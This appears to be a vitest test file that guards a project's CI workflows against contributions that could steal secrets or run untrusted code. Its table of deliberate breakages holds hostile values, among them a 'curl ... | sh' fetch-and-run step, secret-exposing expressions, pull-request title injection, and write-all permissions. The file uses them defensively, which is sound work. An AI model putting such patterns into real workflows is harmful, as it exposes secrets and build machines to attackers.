import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { parse } from 'yaml';
import { describe, expect, test } from 'vitest';
import { ROOT } from '#src/io/folders.ts';
import { faultsOf, scriptFaults } from './workflow-rules.ts';

const paths = ['.github/workflows', '.forgejo/workflows'].flatMap((folder) =>
  readdirSync(join(ROOT, folder)).map((name) => `${folder}/${name}`),
);
const textOf = (path: string) => readFileSync(join(ROOT, path), 'utf8');
const CHECK = '.github/workflows/check.yml';
const REPORT = '.github/workflows/report.yml';
const PUBLISH = '.github/workflows/publish.yml';

describe('a contribution can’t take anything from the machines that check it', () => {
  test.each(paths)('%s is safe', (path) => {
    expect(path).toMatch(/\.yml$/);
    expect(faultsOf(textOf(path))).toEqual([]);
  });

  test('contributions are checked and built on GitHub and on Forgejo, and only one workflow has rights', () => {
    const on = (event: string) => paths.filter((path) => event in (parse(textOf(path)) as { on: object }).on);
    expect(on('pull_request')).toEqual([CHECK, '.forgejo/workflows/check.yml']);
    expect(on('workflow_run')).toEqual([REPORT]);
    for (const path of on('pull_request')) expect(textOf(path)).toMatch(/run\.mjs check[^]*run\.mjs build/);
  });

  test('the workflow with rights answers the one that checks', () => {
    const { name } = parse(textOf(CHECK)) as { name: string };
    const { on } = parse(textOf(REPORT)) as { on: { workflow_run: unknown } };
    expect(on.workflow_run).toEqual({ workflows: [name], types: [`completed`] });
  });

  test('GitLab’s jobs need no secret, no token and no installed program', () => {
    const { workflow, default: defaults, ...jobs } = parse(textOf('.gitlab-ci.yml')) as Record<string, Record<string, unknown>>;
    expect(Object.keys(jobs)).toEqual(['check', 'build', 'test', 'shard', 'pages']);
    expect([workflow, defaults]).not.toContain(undefined);
    expect(textOf('.gitlab-ci.yml')).not.toMatch(/TOKEN|PASSWORD|SECRET|^\s*(variables|secrets|id_tokens|include|cache):/m);
    for (const [name, job] of Object.entries(jobs)) {
      expect(job['timeout'], name).toMatch(/^\d+m$/);
      expect(scriptFaults(name, (job['script'] as string[]).join('\n'))).toEqual([]);
    }
  });
});

test('GitLab shows each problem beside its line', () => {
  const file = join(mkdtempSync(join(tmpdir(), 'gitlab-')), 'problems.json');
  const problem = { file: 'content/wins/a.json', line: 4, column: 2, code: 'json.comma-missing', what: 'ينقص «,».', fix: 'Put it.' };
  writeFileSync(file, JSON.stringify([problem, { ...problem, column: 9 }]));
  const report = JSON.parse(execFileSync(process.execPath, [join(ROOT, '.gitlab/code-quality.mjs'), file], { encoding: 'utf8' })) as {
    fingerprint: string;
  }[];
  expect(report[0]).toEqual({
    description: 'ينقص «,». Put it.',
    check_name: 'json.comma-missing',
    fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
    severity: 'major',
    location: { path: 'content/wins/a.json', lines: { begin: 4 } },
  });
  expect(report[1]!.fingerprint).not.toBe(report[0]!.fingerprint);
});

/** Each line breaks one thing in a copy of a workflow: file, what is replaced, by what, and what must be found. */
const BROKEN: [file: string, from: string | RegExp, to: string, fault: string][] = [
  [CHECK, 'pull_request:', 'pull_request_target:', 'runs on pull_request_target'],
  [CHECK, 'permissions: {}', '', 'leaves its rights to the settings of the repository'],
  [CHECK, 'permissions: {}', 'permissions: read-all', 'gives rights to pull requests'],
  [CHECK, 'permissions: {}', 'permissions: write-all', 'gives every job the right to write'],
  [CHECK, 'permissions: {}', 'permissions:\n  contents: write', 'gives every job the right to write'],
  [CHECK, '    runs-on', '    permissions:\n      pull-requests: write\n    runs-on', 'check gives pull requests the right to write'],
  [CHECK, 'OTHERWISE: en', 'OTHERWISE: ${{ secrets.KEY }}', 'shows pull requests a secret'],
  [CHECK, 'OTHERWISE: en', 'OTHERWISE: ${{ secrets["KEY"] }}', 'shows pull requests a secret'],
  [CHECK, 'OTHERWISE: en', 'OTHERWISE: ${{ toJSON(secrets) }}', 'shows pull requests a secret'],
  [CHECK, 'OTHERWISE: en', 'OTHERWISE: ${{ github.token }}', 'shows pull requests a secret'],
  [CHECK, /@[0-9a-f]{40} # v7\.0\.1/, '@v7', 'uses an action that is not known and pinned'],
  [CHECK, / # v7\.0\.1/, '', 'uses an action that is not known and pinned'],
  [CHECK, /actions\/checkout@/, 'somebody/checkout@', 'uses an action that is not known and pinned'],
  [CHECK, 'run: node scripts/run.mjs build', 'run: npm ci && npm run build', 'check lets packages run code'],
  [CHECK, 'run: node scripts/run.mjs build', 'run: npm install left-pad', 'check lets packages run code'],
  [CHECK, 'run: node scripts/run.mjs build', 'run: npx astro build', 'check runs a package that no lockfile names'],
  [CHECK, 'run: node scripts/run.mjs build', 'run: curl -s https://example.org/x.sh | sh', 'check fetches from the network'],
  [CHECK, 'run: node scripts/run.mjs build', 'run: echo ${{ github.event.pull_request.title }}', 'check writes what strangers may choose'],
  [CHECK, 'timeout-minutes: 30', '', 'check has no time limit'],
  [CHECK, 'timeout-minutes: 30', 'timeout-minutes: 360', 'check has no time limit'],
  [CHECK, 'persist-credentials: false', 'persist-credentials: true', 'check leaves its token beside the files'],
  [REPORT, 'persist-credentials: false', '', 'report leaves its token beside the files'],
  [REPORT, 'permissions: {}', 'permissions:\n  issues: write', 'gives every job the right to write'],
  [
    REPORT,
    'sparse-checkout:',
    'ref: ${{ github.event.workflow_run.head_sha }}\n          sparse-checkout:',
    'report checks out something else',
  ],
  [REPORT, 'sparse-checkout:', 'repository: a/fork\n          sparse-checkout:', 'report checks out something else'],
  [REPORT, 'sparse-checkout:', 'allow-unsafe-pr-checkout: true\n          sparse-checkout:', 'report checks out something else'],
  [REPORT, 'run: node .github/scripts/report.mjs', 'run: gh pr checkout 1', 'report fetches code by hand'],
  [REPORT, 'run: node .github/scripts/report.mjs', 'run: git fetch origin pull/1/head', 'report fetches code by hand'],
  [REPORT, 'run: node .github/scripts/report.mjs', 'run: git -C site checkout FETCH_HEAD', 'report fetches code by hand'],
  [REPORT, 'run: node .github/scripts/report.mjs', 'run: node scripts/run.mjs check', 'report may write, and runs packages'],
  [
    REPORT,
    'run: node .github/scripts/report.mjs',
    'run: echo "${{ github.event.workflow_run.head_branch }}"',
    'report writes what strangers',
  ],
  [REPORT, /(timeout-minutes: 10[^]*?)steps:/, '$1steps:\n      - run: node x.mjs', 'report runs programs before it has the main branch’s'],
  [REPORT, 'GH_TOKEN: ${{ github.token }}', 'GH_TOKEN: ${{ secrets.BOT }}', 'report may write, and runs packages or sees a secret'],
  [REPORT, 'COMMIT: ${{ github.event.workflow_run.head_sha }}', 'COMMIT: ${{ secrets.KEY }}', 'examine sees a secret and runs packages'],
  [REPORT, 'environment: preview', '', 'publish sees a secret without a protected environment'],
  ['.forgejo/workflows/check.yml', 'permissions: {}', '', 'gives rights to pull requests'],
  ['.github/workflows/ci.yml', 'contents: read', 'contents: write', 'gives every job the right to write'],
  [PUBLISH, 'contents: read', 'contents: write', 'gives every job the right to write'],
  [PUBLISH, 'run: node scripts/run.mjs merge', 'run: npm install x && node scripts/run.mjs merge', 'merge lets packages run code'],
  [PUBLISH, '--locales "$LOCALE"', '--locales ${{ matrix.locale }}', 'shard writes what strangers may choose into a script'],
  [PUBLISH, 'include-hidden-files: true', '', 'shard loses hidden files'],
  [PUBLISH, /deploy-pages@[0-9a-f]{40}/, 'deploy-pages@d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e', 'uses an action that is not known'],
  [PUBLISH, '      - id: deploy', '      - run: bash .ci/run\n      - id: deploy', 'deploy may publish, and runs something else'],
  [PUBLISH, /    environment:\n.*\n.*\n/, '', 'deploy may publish without a protected environment'],
  [PUBLISH, /(name: Put the languages together\n)/, '$1    permissions: write-all\n', 'merge may publish, and runs something else'],
];

describe('a site is built on as many machines as it has languages', () => {
  const { languages, shard, merge, deploy } = (parse(textOf(PUBLISH)) as { jobs: Record<string, Record<string, unknown>> }).jobs;

  test('GitHub builds each language of the campaign by itself, and publishes them together', () => {
    expect(languages!['outputs']).toEqual({ list: '${{ steps.read.outputs.list }}' });
    expect(shard!['strategy']).toEqual({ matrix: { locale: '${{ fromJSON(needs.languages.outputs.list) }}' } });
    expect([shard, merge, deploy].map((job) => job!['needs'])).toEqual(['languages', 'shard', 'merge']);
    expect(deploy!['permissions']).toEqual({ pages: 'write', 'id-token': 'write' });
  });

  test('no list of languages stands anywhere but in the campaign', () => {
    for (const path of [PUBLISH, '.gitlab-ci.yml']) expect(textOf(path)).toContain('node scripts/languages.mjs');
    expect(JSON.parse(listed())).toEqual((JSON.parse(textOf('content/campaign.json')) as { locales: string[] }).locales);
  });

  test.each([1, 3, 8])('dealt out to %i machines, each language is built once', (machines) => {
    const parts = Array.from({ length: machines }, (_, i) => listed('--part', `${i + 1}/${machines}`).trim());
    const dealt = parts.filter((part) => part !== '').flatMap((part) => part.split(','));
    expect(dealt.toSorted()).toEqual((JSON.parse(listed()) as string[]).toSorted());
  });

  test.each(['0/3', '4/3', '3', '', '1/0', '-1/3'])('a part that is none is refused: “%s”', (part) => {
    expect(() => listed('--part', part)).toThrow('for the second of eight machines');
  });

  function listed(...args: string[]): string {
    return execFileSync(process.execPath, [join(ROOT, 'scripts/languages.mjs'), '--campaign', ROOT, ...args], {
      encoding: 'utf8',
      stdio: 'pipe',
    });
  }
});

describe('the rules themselves notice what they are for', () => {
  test.each(BROKEN)('%s: %s → %s', (path, from, to, fault) => {
    const text = textOf(path);
    const broken = text.replace(from, to);
    expect(broken).not.toBe(text);
    expect(faultsOf(broken).filter((found) => found.startsWith(fault))).not.toEqual([]);
  });
});
